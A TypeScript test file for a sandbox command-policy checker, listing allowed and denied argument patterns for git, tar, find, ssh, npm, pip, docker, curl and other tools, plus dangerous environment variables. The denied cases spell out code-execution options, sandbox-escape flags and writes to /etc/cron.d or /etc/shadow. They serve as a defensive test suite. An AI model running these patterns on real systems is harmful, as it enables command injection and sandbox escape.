/**
 * The program models of rules/programs/: per program, a table of uses that stay allowed
 * (valid) and a table of option families that run another program, write executable
 * configuration or leave the sandbox (invalid), judged through classifyCommand.
 */
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { classifyCommand, type CommandProblem } from '../../src/policy/commands.js';
import { defaultProgramsDir, loadProgramModels, parseProgramModel, tokenize } from '../../src/policy/programs.js';
import { defaultRulesDir, loadRules } from '../../src/policy/rules.js';

type Valid = string[];
type Invalid = [argv: string[], problem: CommandProblem, reason?: RegExp];

/** The sandbox of these tests: /work/sandbox; any other absolute path is outside. */
const judgePath = (p: string) => (p.startsWith('/work/sandbox/') || !p.startsWith('/') ? { inside: true } : { inside: false, reason: `${p} is outside the sandbox roots (/work/sandbox)` });

const MODELS: Record<string, { valid: Valid[]; invalid: Invalid[] }> = {
  git: {
    valid: [
      ['git', 'grep', '-e', '--upload-pack'],
      ['git', 'grep', '-e', '--exec=x', '--', 'src'],
      ['git', 'log', '--format=%H %s --upload-pack'],
      ['git', 'log', '--grep', '--exec=id'],
      ['git', 'log', '-S', '--upload-pack', '--oneline'],
      ['git', 'commit', '-m', '-c x'],
      ['git', 'commit', '-am', '--upload-pack=x'],
      ['git', 'commit', '-c', 'HEAD'],
      ['git', 'commit', '--message=--receive-pack=id'],
      ['git', 'tag', '-m', '--exec=x', 'v1'],
      ['git', 'push', '-u', 'origin', 'main'],
      ['git', 'fetch', '--prune', 'origin'],
      ['git', 'clone', '--depth', '1', 'https://github.com/acme/app.git'],
      ['git', 'clone', '-c', 'user.name=x', 'https://github.com/acme/app.git'],
      ['git', 'config', '--file', '.gitmodules', '--get-regexp', 'path'],
      ['git', 'config', '--get', 'core.pager'],
      ['git', 'config', 'get', 'core.editor'],
      ['git', 'config', 'user.email', 'bot@example.com'],
      ['git', 'config', '--unset', 'core.pager'],
      ['git', '-c', 'color.ui=never', 'log'],
      // settings that switch off what the key would run (the hardening of hooks that run git on untrusted repositories)
      ['git', '-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/dev/null', 'status'],
      ['git', '-c', 'core.fsMonitor=off', 'diff'],
      ['git', '-c', 'protocol.ext.allow=never', 'fetch', 'origin'],
      ['git', '-c', 'credential.helper=', 'fetch', 'origin'],
      ['git', 'config', 'core.fsmonitor', 'false'],
      ['git', 'clone', '-c', 'core.hooksPath=/dev/null', 'https://github.com/acme/app.git'],
      ['git', '--exec-path'],
      ['git', 'submodule', 'update', '--init', '--', 'foreach'],
      ['git', 'bisect', 'start'],
      ['git', 'difftool', '--tool', 'meld'],
      ['git', 'rebase', '-i', 'HEAD~3'],
      ['git', '-C', 'sub', 'status'],
      ['git', 'clone', 'https://github.com/acme/app.git', 'app'],
    ],
    invalid: [
      [['git', '-c', 'core.sshCommand=touch /tmp/x', 'fetch'], 'wrapper', /`git -c core.sshCommand` runs another program \(`touch`\)/],
      [['git', '-ccore.pager=id', 'log'], 'wrapper'],
      [['git', '--config-env=core.editor=EVIL', 'commit'], 'wrapper'],
      [['git', '--exec-path=/tmp/evil', 'status'], 'wrapper', /another directory/],
      [['git', '-c', 'imap.tunnel=id', 'imap-send'], 'wrapper'],
      [['git', '-c', 'trailer.sign.command=id', 'commit'], 'wrapper'],
      [['git', '-c', 'gpg.x509.program=id', 'tag', '-s', 'v1'], 'wrapper'],
      [['git', '-c', 'gpg.ssh.defaultKeyCommand=id', 'commit'], 'wrapper'],
      [['git', '-c', 'difftool.x.path=/tmp/evil', 'difftool'], 'wrapper'],
      [['git', '-c', 'mergetool.x.cmd=id', 'mergetool'], 'wrapper'],
      [['git', '-c', 'diff.x.textconv=id', 'diff'], 'wrapper'],
      [['git', '-c', 'filter.lfs.process=id', 'checkout', '.'], 'wrapper'],
      [['git', '-c', 'alias.st=status', 'st'], 'wrapper'],
      [['git', 'clone', '-c', 'core.fsmonitor=id', 'https://github.com/acme/app.git'], 'wrapper', /`git clone -c core.fsmonitor`/],
      [['git', 'clone', '--config=core.hooksPath=/tmp/h', 'u'], 'wrapper'],
      // near misses of the settings that switch a key off
      [['git', '-c', 'core.fsmonitor=falsely', 'status'], 'wrapper', /\(`falsely`\)/],
      [['git', '-c', 'core.fsmonitor=false; id', 'status'], 'wrapper'],
      [['git', '-c', 'core.hooksPath=/dev/null/../../tmp/h', 'status'], 'wrapper'],
      [['git', '-c', 'protocol.ext.allow=always', 'fetch', 'ext::id'], 'wrapper'],
      [['git', '-c', 'credential.helper=!id', 'fetch'], 'wrapper'],
      [['git', 'config', 'core.fsmonitor', 'false.sh'], 'wrapper'],
      [['git', 'clone', '--upload-pack', 'touch /tmp/x', 'u'], 'wrapper', /\(`touch`\)/],
      [['git', 'clone', '-u', 'id', 'u'], 'wrapper'],
      [['git', 'fetch', '--upload-pa=id', 'origin'], 'wrapper'],
      [['git', 'push', '--receive-pack=id', 'origin'], 'wrapper'],
      [['git', 'pull', '--exec=id'], 'wrapper'],
      [['git', 'ls-remote', '-u', 'id', 'origin'], 'wrapper'],
      [['git', 'clone', 'ext::sh -c touch% /tmp/x', 'd'], 'wrapper'],
      [['git', 'fetch', 'EXT::id'], 'wrapper'],
      [['git', 'config', 'core.pager', 'id'], 'wrapper'],
      [['git', 'config', 'set', 'core.fsmonitor', 'id'], 'wrapper'],
      [['git', 'config', '--global', 'alias.x', '!id'], 'wrapper'],
      [['git', 'config', 'imap.tunnel', 'id'], 'wrapper'],
      [['git', 'config', 'trailer.x.command', 'id'], 'wrapper'],
      [['git', 'config', 'credential.helper', '!id'], 'wrapper'],
      [['git', 'config', '--add', 'core.sshCommand', 'id'], 'wrapper'],
      [['git', 'config', '--file', 'x.cfg', 'user.name', 'x'], 'wrapper', /another file/],
      [['git', 'config', '-f', '/tmp/.gitconfig', 'a.b', 'c'], 'wrapper'],
      [['git', 'config', '--edit'], 'wrapper', /editor/],
      [['git', 'config', '--rename-section', 'x', 'core'], 'wrapper'],
      [['git', 'instaweb', '--httpd=sh -c id'], 'wrapper', /\(`sh`\)/],
      [['git', 'instaweb', '-d', 'id'], 'wrapper'],
      [['git', 'submodule', 'foreach', 'touch /tmp/x'], 'wrapper', /\(`touch`\)/],
      [['git', 'submodule', '--quiet', 'foreach', 'id'], 'wrapper'],
      [['git', 'rebase', '--exec', 'make test', 'main'], 'wrapper', /\(`make`\)/],
      [['git', 'rebase', '-x', 'id', 'main'], 'wrapper'],
      [['git', 'rebase', '-ix', 'id', 'main'], 'wrapper'],
      [['git', 'bisect', 'run', './t.sh'], 'wrapper', /\(`t.sh`\)/],
      [['git', 'filter-branch', '--tree-filter', 'id'], 'wrapper'],
      [['git', 'grep', '-Oid', 'x'], 'wrapper'],
      [['git', 'grep', '--open-files-in-pager=id', 'x'], 'wrapper'],
      [['git', 'difftool', '-x', 'id'], 'wrapper'],
      [['git', 'init', '--template=/tmp/hooks'], 'wrapper', /hooks/],
      [['git', '-C', '/tmp/evil', 'status'], 'outside-sandbox', /repository outside the sandbox/],
      [['git', '--git-dir=/tmp/evil/.git', 'log'], 'outside-sandbox'],
      [['git', 'clone', 'https://github.com/acme/app.git', '/etc/app'], 'outside-sandbox'],
    ],
  },
  find: {
    valid: [
      ['find', '.', '-name', '*.ts'],
      ['find', '.', '-name', '-exec'],
      ['find', '.', '-path', '-execdir', '-print'],
      ['find', '.', '-fprint', 'list.txt'],
      ['find', '.', '-fprint', '/work/sandbox/list.txt'],
      ['find', '/etc', '-name', '*.conf'],
      ['find', '.', '-name', '*.tmp', '-delete'],
    ],
    invalid: [
      [['find', '.', '-exec', 'rm', '{}', ';'], 'wrapper', /\(`rm`\)/],
      [['find', '.', '-type', 'f', '-execdir', 'id', '+'], 'wrapper'],
      [['find', '.', '-ok', 'id', ';'], 'wrapper'],
      [['find', '.', '-okdir', 'id', ';'], 'wrapper'],
      [['find', '.', '-fprint', '/etc/cron.d/x'], 'outside-sandbox', /outside the sandbox/],
      [['find', '.', '-fprintf', '/tmp/x', '%p'], 'outside-sandbox'],
      [['find', '/etc', '-name', '*.conf', '-delete'], 'outside-sandbox', /deletes files outside/],
      [['find', 'src', '/home/u', '-delete'], 'outside-sandbox'],
    ],
  },
  tar: {
    valid: [
      ['tar', '-xzf', 'a.tgz'],
      ['tar', 'xzf', 'a.tgz'],
      ['tar', '-I', 'zstd -19', '-cf', 'a.tar.zst', 'dir'],
      ['tar', '--use-compress-program=xz', '-cf', 'a', 'd'],
      ['tar', '-cf', 'a.tar', '--checkpoint=10', '--checkpoint-action=dot'],
      ['tar', '-cf', '--to-command=x', 'dir'],
      ['tar', '-tf', '/tmp/a.tar'],
      ['tar', '-xf', '/tmp/a.tar', '-C', 'out'],
    ],
    invalid: [
      [['tar', '-xf', 'a.tar', '--to-command=sh -c id'], 'wrapper', /\(`sh`\)/],
      [['tar', '--to-comm', 'id', '-xf', 'a.tar'], 'wrapper'],
      [['tar', '-I', 'sh -c id', '-xf', 'a'], 'wrapper'],
      [['tar', '-xI', 'id', 'a'], 'wrapper'],
      [['tar', 'xIf', 'id', 'a.tar'], 'wrapper'],
      [['tar', '--use-compress-program', 'gzip; id', '-xf', 'a'], 'wrapper'],
      [['tar', '-cf', 'a', 'd', '--checkpoint=1', '--checkpoint-action=exec=id'], 'wrapper', /\(`id`\)/],
      [['tar', '-xf', 'a', '-F', 'x.sh'], 'wrapper'],
      [['tar', '--info-script=x.sh', '-xf', 'a'], 'wrapper'],
      [['tar', '--rsh-command=/tmp/x', '-xf', 'h:a'], 'wrapper'],
      [['tar', '-xf', 'a.tar', '-C', '/etc'], 'outside-sandbox', /extracts files outside/],
      [['tar', 'xfC', 'a.tar', '/usr/lib'], 'outside-sandbox'],
      [['tar', '-czf', '/tmp/a.tgz', 'src'], 'outside-sandbox', /writes an archive outside/],
    ],
  },
  rsync: {
    valid: [
      ['rsync', '-avz', 'src/', 'host:/dst/'],
      ['rsync', '-e', 'ssh -p 2222', 'a', 'host:b'],
      ['rsync', '--rsh=ssh -i key', 'a', 'host:b'],
      ['rsync', '--exclude', '--rsync-path=x', 'a', 'b'],
    ],
    invalid: [
      [['rsync', '-e', 'sh -c id', 'a', 'h:b'], 'wrapper', /\(`sh`\)/],
      [['rsync', '-e', 'ssh -o ProxyCommand=id', 'a', 'h:b'], 'wrapper'],
      [['rsync', '--rsh', 'ssh; id', 'a', 'h:b'], 'wrapper'],
      [['rsync', '--rsync-path=sudo rsync', 'a', 'h:b'], 'wrapper', /\(`sudo`\)/],
      [['rsync', '--rsync-pa=x', 'a', 'h:b'], 'wrapper'],
      [['rsync', '-M', '--x', 'a', 'h:b'], 'wrapper'],
    ],
  },
  ssh: {
    valid: [['ssh', 'host'], ['ssh', '-p', '22', 'host'], ['scp', '-P', '22', 'f', 'h:/t'], ['ssh', '-o', 'StrictHostKeyChecking=no', 'host']],
    invalid: [
      [['ssh', 'host', 'id'], 'wrapper', /remote host/],
      [['ssh', '-o', 'ProxyCommand=id', 'host'], 'wrapper'],
      [['ssh', '-oLocalCommand=id', '-oPermitLocalCommand=yes', 'host'], 'wrapper'],
      [['ssh', '-F', '/tmp/cfg', 'host'], 'wrapper', /configuration file/],
      [['scp', '-S', '/tmp/x', 'f', 'h:/t'], 'wrapper'],
      [['scp', '-o', 'ProxyCommand=id', 'f', 'h:/t'], 'wrapper'],
    ],
  },
  zip: {
    valid: [['zip', '-r', 'a.zip', 'dir'], ['zip', '-T', 'a.zip', 'f']],
    invalid: [
      [['zip', 'a.zip', 'f', '-T', '-TT', 'sh -c id'], 'wrapper', /\(`sh`\)/],
      [['zip', '--unzip-command=id', 'a.zip', 'f'], 'wrapper'],
    ],
  },
  awk: {
    valid: [['awk', '{ print $1 }', 'f'], ['gawk', '-F', ':', '{ print "a|b" }', 'f']],
    invalid: [
      [['awk', 'BEGIN { system("id") }'], 'interpreter', /system\(\)/],
      [['awk', '{ print | "sh" }'], 'interpreter', /pipe/],
      [['gawk', 'BEGIN { "id" | getline x }'], 'interpreter'],
      [['awk', '{ print > "/dev/stdout" | "id" }'], 'interpreter'],
    ],
  },
  sed: {
    valid: [['sed', '-n', 's/a/b/gp', 'f'], ['sed', '-e', 's/exec/run/', 'f'], ['sed', '-n', 'w out.txt', 'f'], ['sed', 's/a/b/w /dev/stdout', 'f'], ['sed', '-i', 's/a/b/', 'notes.txt'], ['sed', 's/w/r/', '/etc/hosts'], ['sed', '-i', '/^#/d', 'notes.txt']],
    invalid: [
      [['sed', '1e id', 'f'], 'interpreter', /sed e/],
      [['sed', 's/x/id/e', 'f'], 'interpreter'],
      [['sed', '-n', '1w /etc/cron.d/x', 'f'], 'outside-sandbox', /`sed w \/etc\/cron\.d\/x` writes a file outside/],
      [['sed', 's/a/b/w /home/u/.bashrc', 'f'], 'outside-sandbox', /sed s\/\/\/w/],
      [['sed', '-e', '$r /etc/shadow', 'f'], 'outside-sandbox', /reads a file outside/],
      [['sed', '-i', 's/a/b/', '/etc/hosts'], 'outside-sandbox', /edits \/etc\/hosts in place/],
      [['sed', '-i.bak', '-e', 's/a/b/', 'ok.txt', '/etc/hosts'], 'outside-sandbox'],
    ],
  },
  less: {
    valid: [['less', 'f'], ['less', '+G', 'f'], ['less', '+100', 'f'], ['less', '+/class', 'f'], ['less', '-N', 'f']],
    invalid: [
      [['less', '+!id', 'f'], 'wrapper', /initial command/],
      [['less', '+|id', 'f'], 'wrapper'],
      [['less', '+v', 'f'], 'wrapper'],
      [['less', '+/x\n!id', 'f'], 'wrapper'],
      [['less', '-k', '/tmp/keys', 'f'], 'wrapper', /key bindings/],
      [['less', '-o', '/etc/x', 'f'], 'outside-sandbox'],
    ],
  },
  make: {
    valid: [['make'], ['make', '-j4', 'all'], ['make', 'CFLAGS=-O2', 'all'], ['make', '-C', 'sub']],
    invalid: [
      [['make', '--eval=$(shell id)'], 'interpreter'],
      [['make', '-E', 'x:;id'], 'interpreter'],
      [['make', '-f', '/tmp/Makefile'], 'wrapper', /another makefile/],
      [['make', '--file=x.mk'], 'wrapper'],
      [['make', 'SHELL=/tmp/x', 'all'], 'wrapper', /shell/],
      [['make', '.SHELLFLAGS=-c id'], 'wrapper'],
    ],
  },
  npm: {
    valid: [['npm', 'install'], ['npm', 'ci', '--ignore-scripts'], ['npm', 'run', 'build'], ['npm', 'test'], ['npm', 'install', '--ignore-scripts', 'left-pad'], ['yarn'], ['npm', 'config', 'get', 'registry']],
    invalid: [
      [['npm', 'install', 'left-pad'], 'wrapper', /install scripts/],
      [['npm', 'i', 'github:evil/pkg'], 'wrapper'],
      [['yarn', 'add', 'x'], 'wrapper'],
      [['npm', 'install', '--registry', 'http://evil', ''], 'wrapper'],
      [['npm', 'run', 'build', '--script-shell=/tmp/x'], 'wrapper', /shell/],
      [['npm', 'config', 'set', 'script-shell=/tmp/x'], 'wrapper'],
      [['npm', 'exec', 'x'], 'wrapper'],
      [['npx', 'cowsay'], 'wrapper'],
    ],
  },
  pip: {
    valid: [['pip', 'install', 'requests'], ['pip', 'install', 'requests==2.31'], ['pip', 'list'], ['pip3', 'show', 'x']],
    invalid: [
      [['pip', 'install', 'git+https://example.com/x.git'], 'wrapper', /setup\.py/],
      [['pip', 'install', 'https://example.com/x.tar.gz'], 'wrapper'],
      [['pip', 'install', './local'], 'wrapper'],
      [['pip', 'install', 'x', '--index-url', 'http://evil/simple'], 'wrapper'],
      [['pip', 'install', '--extra-index-url=http://evil', 'x'], 'wrapper'],
      [['pip', 'install', '-e', '.'], 'wrapper'],
      [['pip', 'install', '-r', 'req.txt'], 'wrapper'],
      [['pip', 'install', 'pkg @ https://example.com/p.zip'], 'wrapper'],
    ],
  },
  docker: {
    valid: [['docker', 'run', '--rm', 'alpine'], ['docker', 'run', '-v', './data:/data', 'alpine'], ['docker', 'run', 'alpine', '--privileged'], ['docker', 'ps'], ['docker', 'images']],
    invalid: [
      [['docker', 'run', '--privileged', 'alpine'], 'escape', /every device/],
      [['docker', 'run', '-v', '/:/host', 'alpine'], 'escape'],
      [['docker', 'run', '--volume=/var/run/docker.sock:/s', 'alpine'], 'escape'],
      [['docker', 'run', '--mount', 'type=bind,source=/,target=/h', 'alpine'], 'escape'],
      [['docker', 'run', '--network', 'host', 'alpine'], 'escape'],
      [['docker', 'run', '--pid=host', 'alpine'], 'escape'],
      [['docker', 'run', '--cap-add', 'SYS_ADMIN', 'alpine'], 'escape'],
      [['docker', 'container', 'run', '--privileged', 'alpine'], 'escape'],
      [['docker', 'exec', 'web', 'sh'], 'wrapper'],
      [['docker', '-H', 'tcp://evil:2375', 'ps'], 'wrapper'],
    ],
  },
  kubectl: {
    valid: [['kubectl', 'get', 'pods'], ['kubectl', 'describe', 'pod', 'x'], ['kubectl', 'logs', 'x'], ['kubectl', '-n', 'exec', 'get', 'pods']],
    invalid: [
      [['kubectl', 'exec', 'web', '--', 'sh'], 'wrapper'],
      [['kubectl', 'run', 'x', '--image=alpine'], 'wrapper'],
      [['kubectl', 'apply', '-f', 'x.yaml'], 'wrapper'],
      [['kubectl', '--kubeconfig', '/tmp/k', 'get', 'pods'], 'wrapper'],
    ],
  },
  curl: {
    valid: [['curl', '-s', 'https://example.com'], ['curl', '-o', 'out.html', 'https://example.com'], ['curl', '-o', '/work/sandbox/x', 'https://e.com'], ['curl', '-d', '-K x', 'https://e.com']],
    invalid: [
      [['curl', '-K', 'cfg', 'https://e.com'], 'wrapper', /reads options from a file/],
      [['curl', '--config=cfg'], 'wrapper'],
      [['curl', '-o', '/etc/cron.d/x', 'https://e.com'], 'outside-sandbox', /outside the sandbox/],
      [['curl', '--output', '/home/u/.bashrc', 'https://e.com'], 'outside-sandbox'],
      [['curl', '-so/tmp/x', 'https://e.com'], 'outside-sandbox'],
    ],
  },
  wget: {
    valid: [['wget', 'https://example.com'], ['wget', '-O', 'out', 'https://e.com'], ['wget', '-q', '--header', '-e x', 'https://e.com']],
    invalid: [
      [['wget', '-e', 'robots=off', 'https://e.com'], 'wrapper', /wgetrc/],
      [['wget', '--execute=x', 'https://e.com'], 'wrapper'],
      [['wget', '--use-askpass=/tmp/x', 'https://e.com'], 'wrapper'],
      [['wget', '-O', '/etc/passwd', 'https://e.com'], 'outside-sandbox'],
      [['wget', '-P', '/tmp', 'https://e.com'], 'outside-sandbox'],
    ],
  },
};

describe('program models', () => {
  for (const [name, { valid, invalid }] of Object.entries(MODELS)) {
    describe(name, () => {
      it.each(valid.map((v) => [v.join(' '), v] as const))('allows %s', (_, argv) => {
        const v = classifyCommand({ command: argv[0]!, args: argv.slice(1) }, null, { judgePath });
        expect(v, v.reason).toMatchObject({ allowed: true });
      });
      it.each(invalid.map((c) => [c[0].join(' '), ...c] as const))('denies %s', (_, argv, problem, reason) => {
        const v = classifyCommand({ command: argv[0]!, args: argv.slice(1) }, null, { judgePath });
        expect(v).toMatchObject({ allowed: false, problem });
        if (reason) expect(v.reason).toMatch(reason);
        // an allowlist does not make it acceptable
        expect(classifyCommand({ command: argv[0]!, args: argv.slice(1) }, [argv[0]!], { judgePath }).allowed).toBe(false);
      });
    });
  }

  it('without a sandbox judge (the static engine), paths in options are not judged', () => {
    expect(classifyCommand({ command: 'curl', args: ['-o', '/etc/x', 'https://e.com'] }, null).allowed).toBe(true);
  });
});

describe('environment of an exec action', () => {
  const denied: [string, Record<string, string>, RegExp?][] = [
    ['ls', { LD_PRELOAD: '/tmp/x.so' }, /`LD_PRELOAD` is denied: the dynamic loader/],
    ['ls', { LD_LIBRARY_PATH: '/tmp' }],
    ['ls', { DYLD_INSERT_LIBRARIES: '/tmp/x' }],
    ['node', { NODE_OPTIONS: '--require /tmp/x.js' }, /Node\.js/],
    ['python3', { PYTHONPATH: '/tmp' }],
    ['python3', { PYTHONSTARTUP: '/tmp/x.py' }],
    ['perl', { PERL5OPT: '-Mx' }],
    ['ruby', { RUBYOPT: '-rx' }],
    ['make', { BASH_ENV: '/tmp/x' }],
    ['make', { ENV: '/tmp/x' }],
    ['ls', { PROMPT_COMMAND: 'id' }],
    ['ls', { 'BASH_FUNC_ls%%': '() { id; }' }],
    ['git', { PAGER: 'id' }],
    ['git', { EDITOR: 'id' }],
    ['git', { VISUAL: 'id' }],
    ['git', { GIT_SSH: '/tmp/x' }],
    ['git', { GIT_SSH_COMMAND: 'id' }],
    ['git', { GIT_EXTERNAL_DIFF: 'id' }],
    ['git', { GIT_PAGER: 'id' }],
    ['git', { GIT_EDITOR: 'id' }],
    ['git', { GIT_ASKPASS: 'id' }],
    ['git', { SSH_ASKPASS: 'id' }],
    ['git', { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'alias.x', GIT_CONFIG_VALUE_0: '!id' }, /GIT_CONFIG_COUNT/],
    ['git', { GIT_CONFIG_PARAMETERS: "'core.pager'='id'" }],
    ['git', { GIT_CONFIG_GLOBAL: '/tmp/cfg' }],
    ['git', { GIT_CONFIG_SYSTEM: '/tmp/cfg' }],
    ['git', { GIT_EXEC_PATH: '/tmp' }],
    ['git', { GIT_TEMPLATE_DIR: '/tmp' }],
    ['git', { GIT_PROXY_COMMAND: 'id' }],
    ['git', { GIT_DIR: '/tmp/evil/.git' }],
    ['git', { HOME: '/tmp/evil' }],
    ['git', { PATH: '/tmp/evil:/usr/bin' }],
    ['npm', { npm_config_script_shell: '/tmp/x' }],
    ['less', { LESSOPEN: '|id %s' }, /input preprocessor/],
    ['make', { MAKEFLAGS: '--eval=x' }],
    ['curl', { CURL_HOME: '/tmp' }],
    ['ls', { OPENSSL_CONF: '/tmp/x' }],
    ['java', { JAVA_TOOL_OPTIONS: '-javaagent:/tmp/x.jar' }],
  ];
  it.each(denied)('%s with %j is denied', (command, env, reason) => {
    const v = classifyCommand({ command, args: [], env }, null);
    expect(v).toMatchObject({ allowed: false, problem: 'environment' });
    if (reason) expect(v.reason).toMatch(reason);
  });

  const allowed: [string, Record<string, string | undefined>][] = [
    ['git', { GIT_AUTHOR_NAME: 'Bot', GIT_AUTHOR_EMAIL: 'bot@example.com', GIT_COMMITTER_NAME: 'Bot' }],
    ['git', { GIT_TERMINAL_PROMPT: '0', LANG: 'C.UTF-8', TZ: 'UTC' }],
    ['ls', { GIVEN: 'yes', CI: 'true', NO_COLOR: '1' }],
    ['ls', { LD_PRELOAD: undefined }],
    ['python3', { PYTHONUNBUFFERED: '1', PYTHONDONTWRITEBYTECODE: '1' }],
  ];
  it.each(allowed)('%s with %j is allowed', (command, env) => {
    expect(classifyCommand({ command, args: ['x.py'], env }, null)).toMatchObject({ allowed: true });
  });

  it('an env that is not a mapping is denied', () => {
    expect(classifyCommand({ command: 'ls', env: 'LD_PRELOAD=x' as never }, null)).toMatchObject({ allowed: false, problem: 'environment' });
  });
});

describe('parsing as the program does', () => {
  const g = parseProgramModel('program: t\noptions:\n  value: [-m, --message, -f]\n  abbreviations: true\n', 't.yaml').global.grammar;
  it('separates option values, combined short options, --opt=value and --', () => {
    expect(tokenize(['-am', '--x', '--message=-c', '--mess', 'v', '-fF', '--', '-z'], g, new Set()).tokens).toEqual([
      { kind: 'option', name: '-a' },
      { kind: 'option', name: '-m', value: '--x' },
      { kind: 'option', name: '--message', value: '-c' },
      { kind: 'option', name: '--message', value: 'v' },
      { kind: 'option', name: '-f', value: 'F' },
      { kind: 'operand', text: '-z', index: 0 },
    ]);
  });
});

describe('program model files', () => {
  it('load, and are not taken for rules by the rule loader', () => {
    const { byName, common } = loadProgramModels();
    for (const p of ['git', 'find', 'tar', 'rsync', 'ssh', 'scp', 'zip', 'awk', 'gawk', 'sed', 'less', 'npm', 'pip', 'make', 'docker', 'kubectl', 'curl', 'wget'])
      expect(byName.has(p), p).toBe(true);
    expect(common.deny.length).toBeGreaterThan(10);
    const rules = loadRules(defaultRulesDir());
    expect(rules.some((r) => r.source.includes(`${path.sep}programs${path.sep}`))).toBe(false);
    expect(defaultProgramsDir().startsWith(defaultRulesDir())).toBe(true);
  });

  it('a bad model names its file and what was expected', () => {
    expect(() => parseProgramModel('program: x\ndeny:\n  - options: [-x]\n', 'rules/programs/x.yaml')).toThrow(/rules\/programs\/x\.yaml: each `deny` entry needs `how`/);
    expect(() => parseProgramModel('program: x\ndeny:\n  - how: y\n', 'x.yaml')).toThrow(/x\.yaml: a `deny` entry needs `options`, `operand` or `always: true`/);
    expect(() => parseProgramModel('names: [x]\n', 'x.yaml')).toThrow(/expected `program: <name>`/);
    expect(() => parseProgramModel("program: x\nconfig-keys: ['(']\n", 'x.yaml')).toThrow(/not a regular expression/);
  });
});
